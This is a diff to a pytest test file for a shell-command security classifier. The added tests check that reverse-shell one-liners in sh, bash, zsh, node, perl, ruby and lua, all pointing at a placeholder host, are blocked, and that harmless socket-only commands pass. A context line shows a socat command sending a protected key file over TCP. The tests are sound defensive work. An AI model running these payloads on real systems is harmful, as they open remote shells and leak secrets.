@@ -314,3 +314,40 @@ def test_socat_file_addresses_reach_protected_paths() -> None:
     policy = parse_policy('[paths]\nprotected = ["/srv/vault/*"]\n')
     result = classify("socat -u OPEN:/srv/vault/key,rdonly TCP:h:1", policy=policy)
     assert "shell.protected-path" in result.rule_ids
+
+
+# -- 7. reverse shells -------------------------------------------------------------------------
+
+@pytest.mark.parametrize("command", [
+    "mkfifo p; sh < p | nc h 1 > p",
+    "rm -f /tmp/p; mkfifo /tmp/p; bash -i < /tmp/p 2>&1 | openssl s_client -quiet "
+    "-connect h:1 > /tmp/p",
+    "mkfifo f; cat f | /bin/sh -i 2>&1 | ncat h 1 > f",
+    "zsh -c 'zmodload zsh/net/tcp && ztcp h 1 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
+    "node -e 'var n=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"sh\",[]);"
+    "var c=new n.Socket();c.connect(1,\"h\",function(){c.pipe(sh.stdin);"
+    "sh.stdout.pipe(c)})'",
+    "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"h:1\");STDIN->fdopen($c,r);"
+    "$~->fdopen($c,w);system$_ while<>;'",
+    "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,$a);open(STDIN,\">&S\");"
+    "exec(\"/bin/sh -i\")'",
+    "ruby -rsocket -e 'c=TCPSocket.new(\"h\",1);while(cmd=c.gets);IO.popen(cmd,\"r\")"
+    "{|io|c.print io.read}end'",
+    "lua -e \"require('socket');t=socket.tcp();t:connect('h','1');"
+    "os.execute('sh -i <&3 >&3 2>&3');\"",
+])
+def test_reverse_shells_in_more_languages_block(command: str) -> None:
+    assert "shell.reverse-shell" in _rules(command)
+
+
+@pytest.mark.parametrize("command", [
+    "sh < script.sh | tee out.log",
+    "cat in.txt | python3 x.py | nc h 1 > out.txt",
+    "zsh -c 'zmodload zsh/net/tcp; ztcp h 80; print -u $REPLY hi; ztcp -c $REPLY'",
+    "node -e 'require(\"net\").connect(80,\"h\").on(\"connect\",()=>process.exit(0))'",
+    "node -e 'require(\"child_process\").execSync(\"ls\")'",
+    "perl -MIO::Socket -e 'print IO::Socket::INET->new(\"h:80\") ? 1 : 0'",
+    "ruby -e 'system(\"ls\")'",
+])
+def test_sockets_or_spawns_alone_pass(command: str) -> None:
+    assert classify(command).verdict is Verdict.PASS
